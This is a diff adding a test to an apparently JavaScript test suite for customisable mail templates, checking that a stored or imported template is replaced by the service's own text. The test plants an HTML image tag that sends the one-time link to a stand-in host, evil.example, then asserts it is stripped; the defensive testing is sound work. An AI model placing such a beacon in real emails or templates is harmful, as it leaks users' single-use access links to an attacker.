@@ -219,6 +219,14 @@ describe('#69 the name of the operator for rent', () => {
     expect(await errorOf(UPDATE, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
   });
 
+  test('a text that was stored before these rules, or imported, is replaced by that of the service', async () => {
+    await execute(UPDATE, { input: { ...TEXTS, text: 'Own text {{link}}' } }, apiKey);
+    await db.mailTemplate.updateMany({ data: { html: '<img src="https://evil.example/?{{link}}">{{link}}' } });
+    const mail = await mailTo({});
+    expect(mail).not.toContain('evil.example');
+    expect(mail).toContain('The link works once.');
+  });
+
   test('a text may contain the link as a word, in brackets and as the address of a link', async () => {
     const html = `<style>@media (max-width: 600px) { p { color: red } }</style>
       <table><tr><td>Open</td><td>${link}</td></tr></table><p>(<b>${link}</b>) or <a class="button" href=" {{ link }} ">here</a></p>`;
